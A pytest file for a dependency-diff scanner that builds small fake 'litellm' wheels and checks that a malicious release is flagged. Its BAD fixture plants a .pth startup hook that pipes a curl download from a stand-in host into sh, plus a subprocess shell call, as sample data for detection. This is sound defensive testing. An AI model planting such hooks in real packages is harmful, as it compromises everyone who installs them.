"""`chainproof deps diff NAME OLD NEW`: end to end with local archives; versions via a stand-in index."""

from __future__ import annotations

import json
import sys
import types
import zipfile
from pathlib import Path

import pytest
from cli_support import Cli

from chainproof.errors import UsageError

PROXY = "import os\n\n\ndef start():\n    return os.getcwd()\n"
CLEAN = {"litellm/__init__.py": "", "litellm/proxy/__init__.py": "", "litellm/proxy/proxy_server.py": PROXY}
BAD = {
    **CLEAN,
    "litellm/proxy/proxy_server.py": PROXY + "import subprocess\nsubprocess.Popen(['sh', '-c', 'id'])\n",
    "litellm_init.pth": "import os; os.system('curl http://203.0.113.9/p | sh')\n",
}
BUMP = {**CLEAN, "litellm/extra.py": "def add(a, b):\n    return a + b\n"}


def wheel(directory: Path, version: str, files: dict[str, str]) -> Path:
    """A minimal wheel of `litellm`: what `deps diff` reads (nothing in it is ever run)."""
    directory.mkdir(parents=True, exist_ok=True)
    path = directory / f"litellm-{version}-py3-none-any.whl"
    meta = f"Metadata-Version: 2.1\nName: litellm\nVersion: {version}\n"
    with zipfile.ZipFile(path, "w") as zf:
        for name, text in {**files, f"litellm-{version}.dist-info/METADATA": meta}.items():
            zf.writestr(name, text)
    return path


@pytest.fixture
def releases(tmp_path: Path) -> dict[str, Path]:
    return {
        "1.82.6": wheel(tmp_path / "w", "1.82.6", CLEAN),
        "1.82.8": wheel(tmp_path / "w", "1.82.8", BAD),
        "1.82.9": wheel(tmp_path / "w", "1.82.9", BUMP),
    }


def test_a_malicious_release_fails_with_a_table(cli: Cli, releases: dict[str, Path]) -> None:
    result = cli("deps", "diff", "litellm", releases["1.82.6"], releases["1.82.8"])
    assert result.code == 1
    assert "diff-new-startup-hook" in result.out
    assert "diff-new-process" in result.out
    assert "files added: litellm_init.pth" in result.out
    assert result.err.splitlines()[-1].startswith("chainproof: litellm 1.82.6 -> 1.82.8: 1 file added")


def test_json_report_and_fail_on(cli: Cli, releases: dict[str, Path]) -> None:
    result = cli("deps", "diff", "litellm", releases["1.82.6"], releases["1.82.8"], "--format", "json")
    assert result.code == 1
    obj = json.loads(result.out)
    assert (obj["name"], obj["old"], obj["new"]) == ("litellm", "1.82.6", "1.82.8")
    assert obj["added_files"] == ["litellm_init.pth"]
    assert obj["changed_files"] == ["litellm/proxy/proxy_server.py"]
    hook = next(f for f in obj["findings"] if f["rule"] == "diff-new-startup-hook")
    assert (hook["severity"], hook["path"], hook["line"]) == ("critical", "litellm_init.pth", 1)
    assert obj["summary"]["worst"] == "critical"


def test_json_is_format_json(cli: Cli, releases: dict[str, Path]) -> None:
    args = ["deps", "diff", "litellm", releases["1.82.6"], releases["1.82.8"]]
    assert cli(*args, "--json").out == cli(*args, "--format", "json").out
    assert "--json and --format table" in cli.fails(2, *args, "--json", "-f", "table")


def test_a_benign_release_passes(cli: Cli, releases: dict[str, Path]) -> None:
    result = cli("deps", "diff", "litellm", releases["1.82.6"], releases["1.82.9"], "-f", "json")
    assert result.code == 0
    obj = json.loads(result.out)
    assert obj["findings"] == []
    assert obj["added_files"] == ["litellm/extra.py"]
    # Nothing new at all, so even the strictest threshold passes.
    strict = cli("deps", "diff", "litellm", releases["1.82.6"], releases["1.82.9"], "--fail-on", "info")
    assert strict.code == 0


def test_fail_on_critical_lets_high_through(cli: Cli, tmp_path: Path, releases: dict[str, Path]) -> None:
    high_only = {**CLEAN, "litellm/proxy/proxy_server.py": PROXY + "import os\nos.system('id')\n"}
    new = wheel(tmp_path / "h", "1.82.7", high_only)
    assert cli("deps", "diff", "litellm", releases["1.82.6"], new).code == 1
    assert cli("deps", "diff", "litellm", releases["1.82.6"], new, "--fail-on", "critical").code == 0


def test_versions_are_downloaded_into_a_private_directory_removed_afterwards(
    cli: Cli, releases: dict[str, Path], monkeypatch: pytest.MonkeyPatch
) -> None:
    calls: list[tuple[str, str, Path, str | None]] = []

    def download_release(name: str, version: str, dest: Path, index_url: str | None = None) -> Path:
        calls.append((name, version, dest, index_url))
        target = dest / releases[version].name
        target.write_bytes(releases[version].read_bytes())
        return target

    index = types.ModuleType("chainproof.deps.index")
    index.download_release = download_release  # type: ignore[attr-defined]
    monkeypatch.setitem(sys.modules, "chainproof.deps.index", index)
    url = "https://pypi.example/simple"
    result = cli("deps", "diff", "litellm", "1.82.6", "1.82.8", "--index-url", url, "-f", "json")
    assert result.code == 1
    assert json.loads(result.out)["new"] == "1.82.8"
    assert [(n, v, u) for n, v, _, u in calls] == [("litellm", "1.82.6", url), ("litellm", "1.82.8", url)]
    assert all(not dest.exists() for _, _, dest, _ in calls)
    # A version on one side and a local archive on the other; the download is named in the report.
    mixed = cli("deps", "diff", "litellm", "1.82.6", releases["1.82.9"])
    assert mixed.code == 0
    assert "litellm-1.82.6-py3-none-any.whl (from the index)" in mixed.out


def test_a_missing_release_on_the_index_is_a_one_line_error(
    cli: Cli, monkeypatch: pytest.MonkeyPatch
) -> None:
    def download_release(name: str, version: str, dest: Path, index_url: str | None = None) -> Path:
        raise UsageError(f"{name} {version}: no wheel for this interpreter nor sdist on the index")

    index = types.ModuleType("chainproof.deps.index")
    index.download_release = download_release  # type: ignore[attr-defined]
    monkeypatch.setitem(sys.modules, "chainproof.deps.index", index)
    message = cli.fails(2, "deps", "diff", "litellm", "1.82.6", "1.82.8")
    assert message == "litellm 1.82.6: no wheel for this interpreter nor sdist on the index"


def test_a_release_of_another_project_is_noted(cli: Cli, tmp_path: Path, releases: dict[str, Path]) -> None:
    result = cli("deps", "diff", "litellm-proxy", releases["1.82.6"], releases["1.82.9"])
    assert result.code == 0
    assert "note: OLD is a release of 'litellm', not 'litellm-proxy'" in result.err


def test_bad_inputs_are_one_line_errors(cli: Cli, tmp_path: Path, releases: dict[str, Path]) -> None:
    good = releases["1.82.6"]
    assert "no such file" in cli.fails(2, "deps", "diff", "litellm", tmp_path / "missing.whl", good)
    corrupt = tmp_path / "litellm-1.0-py3-none-any.whl"
    corrupt.write_bytes(b"PK\x03\x04 not really a zip")
    assert "not a zip archive" in cli.fails(2, "deps", "diff", "litellm", good, corrupt)
    truncated = tmp_path / "litellm-1.0.tar.gz"
    truncated.write_bytes(b"\x1f\x8b\x08\x00garbage")
    assert "corrupt or truncated" in cli.fails(2, "deps", "diff", "litellm", truncated, good)
    unknown = tmp_path / "notes.txt"
    unknown.write_text("hello")
    assert "not a wheel or an sdist" in cli.fails(2, "deps", "diff", "litellm", good, unknown)
    assert "a directory" in cli.fails(2, "deps", "diff", "litellm", tmp_path, good)
    assert "neither an existing wheel or sdist nor a version" in cli.fails(
        2, "deps", "diff", "litellm", good, "not-a-version!"
    )
    assert cli("deps", "diff", "litellm", good, good, "--format", "sarif").code == 2
